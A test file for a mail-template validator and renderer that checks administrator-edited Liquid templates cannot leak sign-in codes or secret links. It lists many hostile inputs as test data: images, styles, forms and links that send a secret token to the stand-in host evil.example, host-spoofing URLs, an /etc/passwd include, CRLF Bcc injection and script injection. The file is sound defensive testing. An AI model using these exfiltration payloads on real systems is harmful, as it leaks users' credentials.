import { NO_VALUES } from '../../application/ports/mail-renderer.js';
import { TEMPLATE_IDS } from '../../domain/mail.js';
import { LiquidMailRenderer } from './liquid-mail-renderer.js';
import { LiquidTemplateLanguage } from './liquid-template-language.js';

const SITE = 'https://porchlight.example';
const renderer = new LiquidMailRenderer(SITE);
const language = new LiquidTemplateLanguage(renderer, SITE);
const problems = (html: string, subject = 'About {{ item }}') => language.problems('cancellation', { subject, html });

describe('The text of a template', () => {
  it.each(TEMPLATE_IDS)('is valid as shipped: %s', async (id) => {
    expect(await language.problems(id, language.shipped(id))).toEqual([]);
  });

  it.each([
    ['a\n{% if role %}b', 'Line 2: tag {% if role %} not closed.'],
    ['a\n\n{{ item', 'Line 3: output "{{ item" not closed.'],
    ['{{ item | shout }}', 'Line 1: undefined filter: shout.'],
    ['{{ item | raw }}', 'Line 1: undefined filter: raw.'],
    ['a\n{% include "/etc/passwd" %}', 'Line 2: tag "include" not found.'],
    ['{% render "x" %}', 'Line 1: tag "render" not found.'],
    ['{% echo item %}', 'Line 1: tag "echo" not found.'],
    ['a\n{{ item.owner }}', 'Line 2: undefined variable: item.owner.'],
    ['{% for n in (1..1000000000) %}x{% endfor %}', 'Line 1: memory alloc limit exceeded.'],
    ['a\n<script>1</script>', 'Line 2: a message has no scripts.'],
    ['a\n\n<a onclick="x()">a</a>', 'Line 3: a message has no scripts.'],
    ['a\n<FORM action="/">a</FORM>', 'Line 2: a message has no forms; lead to a page instead.'],
    ['a\n<iframe src="/"></iframe>', 'Line 2: <iframe>: mail programs do not show what is put in from elsewhere.'],
    [
      'a\n<img src="https://x.ca/a.png">',
      'Line 2: a picture needs words in its place (alt), for those who do not see it.',
    ],
    ['a\n<p class={{ item }}>a</p>', 'Line 2: put quotes around what you put into an attribute.'],
    ["{% if variant == 'by-bank' %}{{ item.x }}{% endif %}a", 'Line 1: undefined variable: item.x.'],
    ["{% if role == 'buyer' %}a{% endif %}<p></p>", 'The message says nothing.'],
  ])('is refused: %j', async (html, message) => {
    expect(await problems(html)).toEqual([{ field: 'html', message }]);
  });

  it('is refused with the name of an unknown variable', async () => {
    const [problem, ...others] = await problems('a\n{{ item }}\n{% if iban %}b{% endif %}');
    expect(problem?.message).toMatch(/^Line 3: this message has no variable “iban”\. It has recipientName, item, /);
    expect(others).toEqual([]);
    const [subject] = await problems('a', 'Your {{ code }}');
    expect(subject).toMatchObject({ field: 'subject', message: expect.stringContaining('“code”') as string });
  });

  it('is refused with the line number when its subject is invalid Liquid', async () => {
    const message = 'Line 2: tag {% if role %} not closed.';
    expect(await problems('a', 'a\n{% if role %}b')).toEqual([{ field: 'subject', message }]);
  });

  it('may have a picture with alternative text', async () => {
    expect(await problems(`<p>a<img alt="A lamp" src="${SITE}/a.png"></p>`)).toEqual([]);
  });

  it('may use variables that it defines', async () => {
    const html = '{% assign who = recipientName | upcase %}{% for row in rows %}{{ who }} {{ row.label }}{% endfor %}a';
    expect(await problems(html)).toEqual([]);
  });
});

describe('An administrator’s text', () => {
  const values = { ...NO_VALUES, recipientName: '<b>Mallory</b>', item: '<img src=x>', role: 'buyer' as const };
  const write = (html: string) =>
    renderer.render('cancellation', values, { edited: { subject: 'About {{ item }}', html } });

  it('is framed, with values escaped in HTML but not in plain text', async () => {
    const html = '<p>Bonjour {{ recipientName }},</p><p>{% capture x %}{{ item }}{% endcapture %}{{ x }}</p>';
    const mail = await write(`${html}<p>{{ amount }}</p>`);
    expect(mail.html).toContain('<!doctype html>');
    expect(mail.html).toContain('<p>Bonjour &lt;b&gt;Mallory&lt;/b&gt;,</p>');
    expect(mail.html).not.toMatch(/<b>|<img|<p><\/p>/);
    expect(mail.text).toContain('Bonjour <b>Mallory</b>,');
    expect(mail.text).toContain('Porchlight, safe local sales');
    expect(mail.subject).toBe('About <img src=x>');
  });

  it('keeps a value from breaking out of an attribute, the title or the subject', async () => {
    const item = 'Lamp"</title><b>\r\nBcc: all@example.ca';
    const text = { subject: 'About {{ item }}', html: '<p title="{{ item }}">Bonjour</p>' };
    const mail = await renderer.render('cancellation', { ...values, item }, { edited: text });
    expect(mail.subject).toBe('About Lamp"</title><b> Bcc: all@example.ca');
    expect(mail.html).toContain('<p title="Lamp&#34;&lt;/title&gt;&lt;b&gt;');
    expect(mail.html).toContain('<title>About Lamp&#34;&lt;/title&gt;&lt;b&gt; Bcc: all@example.ca</title>');
    expect(mail.html).toContain('aria-label="About Lamp&#34;&lt;');
  });

  it('ends a sentence with one full stop, even after a time of day', async () => {
    const html = '<p>It waits until {{ deliveryWindow }}. Then it ends.</p>';
    const mail = await renderer.render(
      'cancellation',
      { ...values, deliveryWindow: '3:40 p.m.' },
      { edited: { subject: 'a', html } },
    );
    expect(mail.html).toContain('<p>It waits until 3:40 p.m. Then it ends.</p>');
    expect(mail.text).toContain('It waits until 3:40 p.m. Then it ends.');
  });
});

/** Those who edit a text must not get what the message carries (decision 0080). */
describe('A secret', () => {
  const LINK = /^Line (\d+): a link’s address is a variable alone, as in href="\{\{ link \}\}", or on our own site /;
  const PICTURE =
    /^Line (\d+): a picture’s address is on our own site \(https:\/\/porchlight\.example\/…\) and written out\.$/;
  const STYLE = /^Line (\d+): a style only has plain values/;
  const ELSEWHERE = /^Line (\d+): <[a-z]+>: mail programs do not show/;
  const PLACE = /^Line (\d+): the attribute “[a-z]+” has no place in a message\.$/;
  const EVIL = 'https://evil.example/p';
  const TOKEN = "{{ link | split: '#' | last }}";

  it.each([
    ['the picture’s address', `a\n<img alt="" src="${EVIL}/${TOKEN}">`, PICTURE],
    ['a picture of elsewhere', `a\n<img alt="" src="${EVIL}.png">`, PICTURE],
    ['a picture without a scheme', 'a\n<img alt="" src="//evil.example/a.png">', PICTURE],
    ['a host that begins like ours', 'a\n<img alt="" src="https://porchlight.example.evil.ca/a.png">', PICTURE],
    ['a host behind ours', 'a\n<img alt="" src="https://porchlight.example@evil.ca/a.png">', PICTURE],
    ['a variable at our own host', `a\n<img alt="" src="${SITE}/${TOKEN}">`, PICTURE],
    ['pictures of several sizes', `a\n<img alt="" src="${SITE}/a.png" srcset="${EVIL}/${TOKEN} 2x">`, PLACE],
    ['a background', `a\n<table background="${EVIL}/${TOKEN}"></table>`, PLACE],
    ['a style', `a\n<p style="background:url(${EVIL}/${TOKEN})">a</p>`, STYLE],
    ['a style in disguise', `a\n<p style="background:u\\72l(${EVIL})">a</p>`, STYLE],
    ['a set of pictures in a style', `a\n<p style="background:image-set('${EVIL}' 1x)">a</p>`, STYLE],
    ['a variable in a style', 'a\n<p style="color:{{ item }}">a</p>', STYLE],
    ['a style sheet', `a\n<style>p { background: url(${EVIL}/${TOKEN}) }</style>`, ELSEWHERE],
    ['a linked style sheet', `a\n<link rel="stylesheet" href="${EVIL}/${TOKEN}">`, ELSEWHERE],
    ['a drawing', `a\n<svg><image href="${EVIL}/${TOKEN}"/></svg>`, ELSEWHERE],
    ['a film', `a\n<video poster="${EVIL}/${TOKEN}"></video>`, ELSEWHERE],
    [
      'an old picture',
      `a\n<table><tr><td><image src="${EVIL}/${TOKEN}"></td></tr></table>`,
      /picture needs words|picture’s address/,
    ],
    ['a refresh', `a\n<meta http-equiv="refresh" content="0;url=${EVIL}/${TOKEN}">`, ELSEWHERE],
    ['a link to elsewhere', `a\n<a href="${EVIL}/${TOKEN}">a</a>`, LINK],
    ['a link through a filter', `a\n<a href="{{ link | replace: '${SITE}', '${EVIL}' }}">a</a>`, LINK],
    ['a link behind another', `a\n<a href="${EVIL}/{{ link }}">a</a>`, LINK],
    ['a link at our own host with a variable', `a\n<a href="${SITE}/check?l={{ link }}">a</a>`, LINK],
    ['a script for a link', 'a\n<a href="javascript:x()">a</a>', LINK],
    ['a message to someone', 'a\n<a href="mailto:me@evil.example?body={{ link }}">a</a>', LINK],
    ['the link as a title', 'a\n<p title="{{ link }}">a</p>', LINK],
    ['a capture', `{% capture x %}${EVIL}/{{ link }}{% endcapture %}\n<img alt="" src="{{ x }}">`, PICTURE],
    ['an assignment', `{% assign x = link | prepend: '${EVIL}/' %}\n<img alt="" src="{{ x }}">`, PICTURE],
    [
      'a picture in a capture',
      `\n{% capture x %}<img alt="" src="${EVIL}/{{ link }}">{% endcapture %}a{{ x }}`,
      PICTURE,
    ],
    ['parts of an address', `\n<img alt="" src="https://{% if link %}evil{% endif %}.example/{{ link }}">a`, PICTURE],
    ['an attribute without an end', `a\n<img alt="" src='${EVIL}/`, /^Line 2: an HTML tag is not closed\.$/],
    [
      'a comment for Outlook',
      `a\n<!--[if mso]><img src="${EVIL}/{{ link }}"><![endif]-->`,
      /^Line 2: a message has no HTML comments/,
    ],
    ['a document of its own', `a\n<body background="${EVIL}">a</body>`, /^Line 2: the frame of the mail has <html>/],
    ['a form', `a\n<form action="${EVIL}"><input name="code"></form>`, /^Line 2: a message has no forms/],
  ])('leaves by no text: %s', async (_way, html, message) => {
    const found = await problems(html);
    expect(found.map((problem) => problem.message)).toEqual([expect.stringMatching(message)]);
    expect(/^Line (\d+):/.exec(found[0]?.message ?? '')?.[1] ?? '2').toBe('2');
    // Also when it is in the database, perhaps from before this rule: each stored text is read again as it is sent.
    const values = { ...NO_VALUES, item: 'Lamp', link: `${SITE}/order#SECRET`, role: 'buyer' as const };
    const sent = renderer.render(
      'cancellation',
      { ...values, recipientName: 'Sam' },
      { edited: { subject: 'a', html } },
    );
    const mail = await sent.catch(() => ({ html: '', text: '' }));
    expect(mail.html).not.toMatch(/<[^>]*evil|="[^"]+SECRET(?!")/);
    expect(mail.html + mail.text).not.toMatch(/evil\S*SECRET/);
  });

  it.each([
    ['<p>a</p>{% if reason %}<{{ reason }}>{% endif %}', `img alt=a src=${EVIL}`],
    [`<img alt="a" src="${SITE}/{{ reason }}">`, 'a.png'],
    [`<a href="${SITE}/{{ reason }}">a</a>`, 'a'],
  ])('is looked for again in what is sent: %s', async (html, reason) => {
    const edited = { subject: 'a', html };
    const sent = renderer.render('cancellation', { ...NO_VALUES, reason, item: 'a' }, { edited });
    await expect(sent).rejects.toThrow(/^a (?:picture|link)’s address/);
  });

  it('has no variable: code and link of a sign-in belong to the frame', async () => {
    const by = (html: string, subject = 'a') => language.problems('magic-link', { subject, html });
    const sentence = (name: string) =>
      `Line 1: the frame of the mail writes “${name}” below the text, where no text can pass it on.`;
    expect(await by('<p>{{ code }}</p>')).toEqual([{ field: 'html', message: sentence('code') }]);
    expect(await by('<a href="{{ link }}">a</a>')).toEqual([{ field: 'html', message: sentence('link') }]);
    expect(await by('a', '{{ code }}')).toEqual([{ field: 'subject', message: sentence('code') }]);
    expect((await by('{{ item }}'))[0]?.message).toBe('Line 1: this message has no variable “item”. It has none.');
    const inSubject = await problems('a', 'See {{ link }}');
    expect(inSubject).toEqual([{ field: 'subject', message: 'Line 1: a subject has no links.' }]);
  });

  const SIGN_IN = { ...NO_VALUES, code: '123456', link: `${SITE}/auth/link#SECRET` };
  it.each(['{{ code }}', '{{ link }}', "{{ ['code'] }}", '{% assign n = "co" | append: "de" %}{{ [n] }}'])(
    'cannot be reached by a stored text either: %s',
    async (reach) => {
      const edited = { subject: 'a', html: `<p>Hello ${reach}</p>` };
      const sent = renderer.render('magic-link', SIGN_IN, { edited });
      await expect(sent).rejects.toThrow(/undefined variable/);
    },
  );

  it('stands below an edited text, which cannot swallow it', async () => {
    const sent = (open: string) =>
      renderer.render('magic-link', SIGN_IN, { edited: { subject: 'Sign in', html: `a${open}` } });
    for (const open of ['<table><tr><td>', '<b><i>', '</div></td></tr></table>', '<', '<p title="a">']) {
      const mail = await sent(open);
      expect(mail.subject).toBe('Sign in: 123456');
      expect(mail.html).toContain('>123456</p>');
      expect(mail.html).toContain(`<a href="${SIGN_IN.link}" rel="noopener"`);
      const count = (pattern: string) => mail.html.match(new RegExp(pattern, 'g'))?.length;
      for (const name of ['div', 'td', 'b', 'i', 'p']) expect(count(`<${name}[ >]`)).toBe(count(`</${name}>`));
      expect(mail.text).toContain('\n\n123456\n\n');
      expect(mail.text).toContain(`Sign in without the code:\n${SIGN_IN.link}\n`);
    }
    for (const open of ['<a href="', "<p title='", '<!-- ', '<textarea>', '<style>'])
      await expect(sent(open)).rejects.toThrow(/^(?:an? |<)/);
  });

  it('does not continue an address that stands before its link', async () => {
    const values = { ...NO_VALUES, item: 'a', link: `${SITE}/order#SECRET` };
    for (const words of ['{{ link }}', '<a href="{{ link }}">{{ link }}</a>', '<a href="{{ link }}"></a>']) {
      const edited = { subject: 'a', html: `<p>${EVIL}?t=${words}.</p>` };
      const mail = await renderer.render('cancellation', values, { edited });
      expect(mail.text).toMatch(/evil\.example\/p\?t= \[?https:\/\/porchlight\.example\/order#SECRET/);
      expect(mail.html).not.toMatch(/t=https:/);
    }
  });

  it('has a link in its place: the listed variable, a page of the site, or our address', async () => {
    const html = `<a href="{{ link }}">a</a> <a href="${SITE}/help?a=1&amp;b=2">b</a> <a href="mailto:help@porchlight.test">c</a>`;
    expect(await problems(html)).toEqual([]);
    const values = { ...NO_VALUES, item: 'a', link: `${SITE}/order#T` };
    const mail = await renderer.render('cancellation', values, { edited: { subject: 'a', html } });
    for (const address of [`${SITE}/order#T`, `${SITE}/help?a=1&amp;b=2`, 'mailto:help@porchlight.test'])
      expect(mail.html).toContain(`<a href="${address}">`);
  });

  it('is not looked for without end', async () => {
    const html = `<p>${Array.from({ length: 1_400 }, (_, n) => `<b class="${String(n)}">`).join('')}</p>${'<p>x'.repeat(4_000)}`;
    expect((await problems(html))[0]?.message).toBe('Line 1: a message has at most 1000 HTML tags.');
  });
});
